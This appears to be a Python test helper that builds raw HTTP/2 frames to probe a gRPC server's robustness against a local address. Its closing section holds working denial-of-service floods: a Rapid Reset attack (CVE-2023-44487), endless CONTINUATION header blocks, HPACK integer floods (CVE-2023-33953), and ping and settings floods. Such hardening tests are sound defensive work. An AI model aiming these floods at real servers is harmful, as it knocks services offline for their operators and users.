"""HTTP/2 by frames (RFC 9113), for what no well-behaved library sends. One thread per connection; every wait is bounded.

    connection = http2.Connection("127.0.0.1:50051")
    stream = connection.call("/dejavu.v1.GenerationService/Generate", request.SerializeToString())
    assert connection.outcome(stream).code == 3

Frames are bytes, made by the functions below, so that a test may break, repeat or slice them before it sends them.
"""
import dataclasses
import select
import socket
import ssl
import struct
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
# Settings.
TABLE_SIZE, ENABLE_PUSH, MAX_STREAMS, INITIAL_WINDOW, MAX_FRAME, MAX_HEADERS = range(1, 7)
# Errors.
CANCEL = 8
PATIENCE_S = 60
MOST_FRAME_BYTES = 1 << 20  # more is an error of the peer
WIDE = (1 << 31) - 1


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def settings(values=None):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *item) for item in (values or {}).items()))


def headers(stream, block, end_stream=False, end_headers=True):
    """`block`: bytes, or pairs to encode."""
    block = block if isinstance(block, bytes) else hpack.encode(block)
    return frame(HEADERS, END_STREAM * end_stream | END_HEADERS * end_headers, stream, block)


def settings_ack():
    return frame(SETTINGS, ACK)


def continuation(stream, block, end_headers=False):
    return frame(CONTINUATION, END_HEADERS * end_headers, stream, block)


def data(stream, payload, end_stream=False):
    return frame(DATA, END_STREAM * end_stream, stream, payload)


def reset(stream, error=CANCEL):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", error))


def ping(payload=b"hardened", ack=False):
    return frame(PING, ACK * ack, 0, payload)


def window_update(stream, increment):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def goaway(last=0, error=0):
    return frame(GOAWAY, 0, 0, struct.pack(">II", last, error))


def grpc_message(message, compressed=0, length=None):
    """gRPC's prefix and the message. `length`: what the prefix claims."""
    return struct.pack(">BI", compressed, len(message) if length is None else length) + message


def grpc_headers(path, metadata=(), authority="localhost", scheme="http", content_type="application/grpc", timeout=None):
    pairs = [(":method", "POST"), (":scheme", scheme), (":path", path), (":authority", authority), ("te", "trailers"),
             ("content-type", content_type)]
    return [*pairs, *([("grpc-timeout", timeout)] if timeout else []), *metadata]


@dataclasses.dataclass
class Frame:
    kind: int
    flags: int
    stream: int
    payload: bytes


@dataclasses.dataclass
class Stream:
    """What has come on it."""
    headers: list = dataclasses.field(default_factory=list)  # pairs, trailers included
    data: bytearray = dataclasses.field(default_factory=bytearray)
    ended: bool = False
    reset: int = None

    def header(self, name):
        return next((value for key, value in self.headers if key == name), None)

    @property
    def code(self):
        """grpc-status; None: none has come."""
        status = self.header("grpc-status")
        return None if status is None else int(status)

    @property
    def messages(self):
        """The whole ones."""
        found, at = [], 0
        while at + 5 <= len(self.data):
            length = int.from_bytes(self.data[at + 1:at + 5], "big")
            if at + 5 + length > len(self.data):
                break
            found.append(bytes(self.data[at + 5:at + 5 + length]))
            at += 5 + length
        return found


class Closed(Exception):
    """The peer has closed the connection, or answered nothing more within the patience."""


class Connection:
    """Opened with preface and SETTINGS, which may be left out. `read` acknowledges SETTINGS and PING, and gives credit for what
    it has read; `send` reads nothing, so who sends much to a peer that answers has to read now and then."""

    def __init__(self, address, tls=None, settings_sent=None, preface=True, patience_s=PATIENCE_S, connection_window=WIDE, credit=True,
                 source=None):
        """`tls`: an ssl.SSLContext. `connection_window`: bytes that the peer may send on all streams; None: the initial 65,535.
        `credit`: whether bytes that were read may come again. `source`: an address of this host to come from."""
        host, port = address.rsplit(":", 1)
        self.patience_s, self._credit, self._next, self._buffer = patience_s, credit, 1, bytearray()
        self._decoder, self._block, self.streams = hpack.Decoder(), None, {}
        self.goaway, self.peer_settings, self.pongs, self.closed = None, {}, 0, False
        self.socket = socket.create_connection((host, int(port)), timeout=patience_s, source_address=(source, 0) if source else None)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls is not None:
            self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
        if preface:
            first = PREFACE + settings(settings_sent)
            if connection_window is not None and connection_window > 65535:
                first += window_update(0, connection_window - 65535)
            self.send(first)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def close(self, abruptly=False):
        """`abruptly`: with a TCP reset."""
        if abruptly:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.socket.close()

    def send(self, *frames):
        """Closed if the peer has closed or takes nothing within the patience."""
        try:
            self.socket.settimeout(self.patience_s)
            self.socket.sendall(b"".join(frames))
        except OSError as error:
            self.closed = True
            raise Closed(str(error)) from error

    def send_slowly(self, content, piece_bytes, pause_s, most_s):
        """False: the peer has closed, or `most_s` went by before all was sent."""
        end = time.monotonic() + most_s
        for at in range(0, len(content), piece_bytes):
            if time.monotonic() >= end:
                return False
            try:
                self.send(content[at:at + piece_bytes])
            except Closed:
                return False
            time.sleep(pause_s)
        return True

    def pour(self, content, end):
        """As `send`, but throws away whatever comes meanwhile, so that neither side waits for the other. False: the peer has closed,
        or time is up."""
        left = memoryview(content)
        self.socket.setblocking(False)
        while left:
            readable, writable, _ = select.select([self.socket], [self.socket], [], max(0, min(1, end - time.monotonic())))
            try:
                if readable and not self.socket.recv(1 << 16):
                    return False
                if writable:
                    left = left[self.socket.send(left[:1 << 16]):]
            except BlockingIOError:
                pass
            except OSError:
                return False
            if time.monotonic() >= end:
                return False
        return True

    def next_stream(self):
        self._next += 2
        return self._next - 2

    def call(self, path, message=None, metadata=(), end=True, **fields):
        """Opens a call, with one message if there is one; `end`: half-closed thereafter. Its stream's number."""
        stream = self.next_stream()
        frames = [headers(stream, grpc_headers(path, metadata, **fields), end_stream=end and message is None)]
        if message is not None:
            content = grpc_message(message)
            pieces = [content[at:at + 16384] for at in range(0, len(content), 16384)]
            frames += [data(stream, piece, end and piece is pieces[-1]) for piece in pieces]
        self.send(*frames)
        return stream

    def stream(self, number):
        return self.streams.setdefault(number, Stream())

    def outcome(self, number, patience_s=None):
        """The stream as it was at its end; also a stream that the connection's end has cut off."""
        stream = self.stream(number)
        try:
            self.until(lambda: stream.ended, patience_s)
        except Closed:
            pass
        return stream

    def until(self, condition, patience_s=None):
        """Reads until it holds."""
        end = time.monotonic() + (patience_s or self.patience_s)
        while not condition():
            self.read(end)

    def is_closed(self, patience_s=None):
        """Whether the peer closes the connection within that time."""
        try:
            self.until(lambda: False, patience_s)
        except Closed:
            return self.closed

    def answers(self, patience_s=None):
        """Whether a PING is answered."""
        wanted = self.pongs + 1
        try:
            self.send(ping())
            self.until(lambda: self.pongs >= wanted, patience_s)
            return True
        except Closed:
            return False

    def read(self, end=None):
        """The next frame, taken into account."""
        end = end or time.monotonic() + self.patience_s
        got = Frame(0, 0, 0, b"")
        length = int.from_bytes(self._take(3, end), "big")
        got.kind, got.flags, got.stream = struct.unpack(">BBI", self._take(6, end))
        assert length <= MOST_FRAME_BYTES, f"a frame of {length} bytes"
        got.payload = self._take(length, end)
        self._note(got)
        return got

    def _take(self, count, end):
        while len(self._buffer) < count:
            left = end - time.monotonic()
            if left <= 0:
                raise Closed("nothing more has come in time")
            self.socket.settimeout(left)
            try:
                more = self.socket.recv(1 << 16)
            except (TimeoutError, ssl.SSLWantReadError) as error:
                raise Closed("nothing more has come in time") from error
            except OSError as error:
                self.closed = True
                raise Closed(str(error)) from error
            if not more:
                self.closed = True
                raise Closed("the peer has closed the connection")
            self._buffer += more
        taken = bytes(self._buffer[:count])
        del self._buffer[:count]
        return taken

    def _note(self, got):
        if got.kind == SETTINGS and not got.flags & ACK:
            self.peer_settings.update(struct.iter_unpack(">HI", got.payload))
            self._answer(frame(SETTINGS, ACK))
        elif got.kind == PING:
            if got.flags & ACK:
                self.pongs += 1
            else:
                self._answer(ping(got.payload, ack=True))
        elif got.kind == GOAWAY:
            self.goaway = (struct.unpack(">I", got.payload[4:8])[0], got.payload[8:])
        elif got.kind == RST_STREAM:
            self.stream(got.stream).reset = struct.unpack(">I", got.payload)[0]
            self.stream(got.stream).ended = True
        elif got.kind == DATA:
            self.stream(got.stream).data += got.payload
            if self._credit and got.payload:
                self._answer(window_update(0, len(got.payload)) + window_update(got.stream, len(got.payload)))
        elif got.kind in (HEADERS, CONTINUATION):
            self._block = got.payload if got.kind == HEADERS else self._block + got.payload
            if got.flags & END_HEADERS:
                self.stream(got.stream).headers += self._decoder.decode(self._block)
        if got.kind in (DATA, HEADERS) and got.flags & END_STREAM:
            self.stream(got.stream).ended = True

    def _answer(self, content):
        """What the peer need not wait for: it may have closed already, which the next read tells."""
        try:
            self.send(content)
        except Closed:
            self.closed = False


def exchange(address, content, patience_s=5, tls=None):
    """Sends bytes of any kind and returns what comes back until the peer closes or is silent so long; whether it closed."""
    host, port = address.rsplit(":", 1)
    end, got, closed = time.monotonic() + patience_s, bytearray(), False
    with socket.create_connection((host, int(port)), timeout=patience_s) as raw:
        peer = tls.wrap_socket(raw, server_hostname="localhost") if tls else raw
        try:
            peer.sendall(content)
            while not closed and len(got) < MOST_FRAME_BYTES and (left := end - time.monotonic()) > 0:
                peer.settimeout(left)
                more = peer.recv(1 << 16)
                got += more
                closed = not more
        except TimeoutError:
            pass
        except OSError:
            closed = True
    return bytes(got), closed


# Floods, as one buffer each: they are sent faster than Python could make them.

def rapid_resets(first_stream, count, path):
    """CVE-2023-44487: calls that are cancelled as soon as they are opened."""
    block = hpack.encode(grpc_headers(path))
    return b"".join(headers(stream, block) + reset(stream) for stream in range(first_stream, first_stream + 2 * count, 2))


def open_calls(first_stream, count, path):
    """Calls whose message never comes."""
    block = hpack.encode(grpc_headers(path))
    return b"".join(headers(stream, block) for stream in range(first_stream, first_stream + 2 * count, 2))


def endless_headers(stream, path, count, value_bytes=16000):
    """A header block that does not end: `count` CONTINUATION frames of one header each."""
    return (headers(stream, grpc_headers(path), end_headers=False) +
            b"".join(continuation(stream, hpack.literal(f"x-{i}", "v" * value_bytes)) for i in range(count)))


def endless_integer(stream, path, count, piece_bytes=16000):
    """CVE-2023-33953: the length of a header's name that does not end."""
    return (headers(stream, hpack.encode(grpc_headers(path)) + b"\0\x7f", end_headers=False) +
            continuation(stream, b"\x80" * piece_bytes) * count)


def endless_zeros(stream, path, count, piece_bytes=16000):
    """CVE-2023-33953: a number in a legal range, written with zeros that do not end."""
    return (headers(stream, hpack.encode(grpc_headers(path)) + b"\0\x7f\x81", end_headers=False) +
            continuation(stream, b"\x80" * piece_bytes) * count)


def pings(count):
    return ping() * count


def settings_changes(count):
    return b"".join(settings({INITIAL_WINDOW: 65535 - i % 2}) for i in range(count))
